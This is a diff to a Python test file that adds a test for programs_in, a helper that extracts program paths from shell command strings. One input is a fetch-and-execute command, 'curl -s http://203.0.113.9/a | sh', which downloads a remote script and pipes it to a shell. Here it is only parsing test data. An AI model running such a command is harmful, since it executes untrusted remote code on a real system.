@@ -171,3 +171,8 @@ def test_any_text_is_read_without_raising_and_gives_absolute_paths(text: str) ->
 @given(st.text(max_size=300))
 def test_a_plain_program_in_front_is_always_found(text: str) -> None:
     assert programs_in("/opt/first; " + text)[:1] == ("/opt/first",)
+
+
+def test_an_address_piped_to_a_shell_is_no_file() -> None:
+    assert programs_in("curl -s http://203.0.113.9/a | sh", "/root") == ()
+    assert programs_in("cat /opt/a.sh | sh", "/root") == ("/opt/a.sh",)
